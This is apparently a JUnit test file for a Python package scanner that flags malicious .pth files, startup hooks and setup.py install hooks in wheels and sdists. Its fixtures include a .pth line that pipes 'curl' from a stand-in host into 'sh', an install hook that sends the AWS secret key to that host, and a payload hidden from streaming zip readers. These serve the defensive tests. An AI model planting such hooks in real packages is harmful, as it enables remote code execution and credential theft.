package dev.veritensor.rules.pip.startup;

import dev.veritensor.api.Finding;
import dev.veritensor.api.ScanResult;
import dev.veritensor.core.Scanner;
import dev.veritensor.rules.pip.PipRulePack;
import dev.veritensor.rules.pip.wheel.RawZip;
import dev.veritensor.rules.pip.wheel.TarGz;
import dev.veritensor.rules.pip.wheel.TestWheel;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The start-up and install-hook rules on wheels and sdists written to disk by the tests and scanned
 * by the engine, which opens the archives and offers their members (nested paths such as
 * {@code dist/x.whl!/x.pth}) to every parser.
 */
class ArchiveEndToEndTest {

    private static final String SHIM = "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var,"
            + " 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n";

    private static ScanResult scan(Path root) throws Exception {
        return Scanner.builder().addPack(new PipRulePack()).threads(2).build().scan(root);
    }

    private static List<String> spots(ScanResult result) {
        return result.findings().stream()
                .map(f -> f.ruleId() + " " + f.severity() + " " + f.location().path() + ":" + f.location().startLine())
                .toList();
    }

    @Test
    void aTamperedWheelIsReportedFromEveryAngle(@TempDir Path root) throws Exception {
        TestWheel wheel = TestWheel.of("fast_json", "3.1.0")
                .file("fast_json/__init__.py", "from .core import loads\n")
                .tampered("fast_json/core.py", "def loads(s):\n    return s\n",
                        "import os\ndef loads(s):\n    return s\n")
                .unlisted("fast_json-init.pth", "import os;os.system('curl -s https://x.example/i | sh &')\n")
                .unlisted("sitecustomize.py", "import fast_json\n");
        Path dist = Files.createDirectories(root.resolve("dist"));
        Files.write(dist.resolve(wheel.fileName()), wheel.build());
        ScanResult result = scan(root);
        String w = "dist/" + wheel.fileName();
        assertThat(spots(result)).containsExactlyInAnyOrder(
                "pip/wheel-record-mismatch HIGH " + w + ":1",
                "pip/wheel-record-mismatch HIGH " + w + ":1",
                "pip/wheel-record-mismatch HIGH " + w + "!/" + wheel.distInfo() + "/RECORD:"
                        + wheel.recordLine("fast_json/core.py"),
                "pip/executable-pth CRITICAL " + w + "!/fast_json-init.pth:1",
                "pip/startup-hook HIGH " + w + "!/sitecustomize.py:1");
        assertThat(result.diagnostics()).isEmpty();
    }

    @Test
    void aMaliciousSdistIsReportedInsideTheArchive(@TempDir Path root) throws Exception {
        String setup = String.join("\n",
                "import os, urllib.request",
                "from setuptools import setup",
                "from setuptools.command.install import install",
                "class I(install):",
                "    def run(self):",
                "        urllib.request.urlopen('https://x.example/?' + os.environ.get('AWS_SECRET_ACCESS_KEY', ''))",
                "        install.run(self)",
                "setup(name='fast-json', version='3.1.0', cmdclass={'install': I})",
                "");
        byte[] sdist = new TarGz()
                .file("fast_json-3.1.0/setup.py", setup)
                .file("fast_json-3.1.0/PKG-INFO", "Metadata-Version: 2.1\nName: fast-json\nVersion: 3.1.0\n")
                .file("fast_json-3.1.0/src/fast_json.pth", "import fast_json._boot\n")
                .bytes();
        Files.write(Files.createDirectories(root.resolve("dist")).resolve("fast_json-3.1.0.tar.gz"), sdist);
        byte[] zipSdist = new RawZip().deflated("other-1.0/setup.py", setup.getBytes(StandardCharsets.UTF_8)).bytes();
        Files.write(root.resolve("dist/other-1.0.zip"), zipSdist);
        ScanResult result = scan(root);
        assertThat(spots(result)).containsExactlyInAnyOrder(
                "pip/setup-install-hook CRITICAL dist/fast_json-3.1.0.tar.gz!/fast_json-3.1.0/setup.py:6",
                "pip/executable-pth HIGH dist/fast_json-3.1.0.tar.gz!/fast_json-3.1.0/src/fast_json.pth:1",
                "pip/setup-install-hook CRITICAL dist/other-1.0.zip!/other-1.0/setup.py:6");
        Finding hook = result.findings().stream().filter(f -> f.ruleId().equals("pip/setup-install-hook")).findFirst()
                .orElseThrow();
        assertThat(hook.message()).contains("'install' command (class I)", "urllib.request.urlopen",
                "reads the environment");
    }

    @Test
    void benignDistributionsDrawNothing(@TempDir Path root) throws Exception {
        TestWheel setuptools = TestWheel.of("setuptools", "80.9.0")
                .file("distutils-precedence.pth", SHIM)
                .file("_distutils_hack/__init__.py", "def add_shim():\n    pass\n")
                .file("setuptools/__init__.py", "");
        TestWheel nspkg = TestWheel.of("zope_interface", "7.0")
                .file("zope/interface/__init__.py", "")
                .file("zope_interface-7.0-py3.12-nspkg.pth", "import sys, types, os;p = os.path.join("
                        + "sys._getframe(1).f_locals['sitedir'], *('zope',));importlib = __import__('importlib.util');"
                        + "__import__('importlib.machinery');m = sys.modules.setdefault('zope', importlib.util."
                        + "module_from_spec(importlib.machinery.PathFinder.find_spec('zope', [os.path.dirname(p)])));"
                        + "m = m or sys.modules.setdefault('zope', types.ModuleType('zope'));mp = (m or []) and "
                        + "m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n");
        Path dist = Files.createDirectories(root.resolve("wheelhouse"));
        Files.write(dist.resolve(setuptools.fileName()), setuptools.build());
        Files.write(dist.resolve(nspkg.fileName()), nspkg.build());
        Files.write(dist.resolve("plain_pkg-1.0.tar.gz"), new TarGz()
                .file("plain_pkg-1.0/setup.py", "import subprocess\nfrom setuptools import setup\n"
                        + "rev = subprocess.check_output(['git', 'rev-parse', 'HEAD']).decode()\n"
                        + "setup(name='plain-pkg', version='1.0+' + rev[:7])\n")
                .file("plain_pkg-1.0/paths.pth", "../shared\n")
                .bytes());
        ScanResult result = scan(root);
        assertThat(result.findings()).isEmpty();
        assertThat(result.diagnostics()).isEmpty();
    }

    @Test
    void membersHiddenFromStreamingReadersAreStillChecked(@TempDir Path root) throws Exception {
        byte[] init = "VERSION = '1.0'\n".getBytes(StandardCharsets.UTF_8);
        byte[] hidden = "import os\nos.system('id')\n".getBytes(StandardCharsets.UTF_8);
        String record = "hide/__init__.py,sha256=" + TestWheel.digest("sha256", init) + "," + init.length + "\n"
                + "hide/payload.py,sha256=" + TestWheel.digest("sha256", hidden) + "," + hidden.length + "\n"
                + "hide-1.0.dist-info/RECORD,,\n";
        byte[] wheel = new RawZip()
                .deflated("hide/__init__.py", init)
                .deflated("hide-1.0.dist-info/RECORD", record.getBytes(StandardCharsets.UTF_8))
                .junk("not a zip header, a stream reader stops here".getBytes(StandardCharsets.UTF_8))
                .deflated("hide/payload.py", hidden)
                .deflated("hide-hook.pth", "import hide.payload\n".getBytes(StandardCharsets.UTF_8))
                .bytes();
        Files.write(root.resolve("hide-1.0-py3-none-any.whl"), wheel);
        ScanResult result = scan(root);
        String w = "hide-1.0-py3-none-any.whl";
        assertThat(spots(result)).containsExactlyInAnyOrder(
                "pip/wheel-record-mismatch HIGH " + w + "!/hide-1.0.dist-info/RECORD:2",
                "pip/wheel-record-mismatch HIGH " + w + ":1",
                "pip/executable-pth HIGH " + w + "!/hide-hook.pth:1");
        assertThat(result.findings()).extracting(Finding::message).contains(
                "hide/payload.py: the archive's central directory lists it, but its data is not where a streaming"
                        + " reader finds it, so it was not checked against RECORD",
                "hide-hook.pth is in the wheel but not listed in hide-1.0.dist-info/RECORD");
    }

    @Test
    void aWheelInsideABundleIsCheckedToo(@TempDir Path root) throws Exception {
        TestWheel wheel = TestWheel.of("tiny", "0.1").file("tiny.py", "x = 1\n").unlisted("tiny-hook.pth", "import tiny\n");
        Files.write(root.resolve("bundle.zip"), new RawZip().stored("wheels/" + wheel.fileName(), wheel.build()).bytes());
        ScanResult result = scan(root);
        String w = "bundle.zip!/wheels/" + wheel.fileName();
        assertThat(spots(result)).containsExactlyInAnyOrder(
                "pip/wheel-record-mismatch HIGH " + w + ":1",
                "pip/executable-pth HIGH " + w + "!/tiny-hook.pth:1");
    }
}
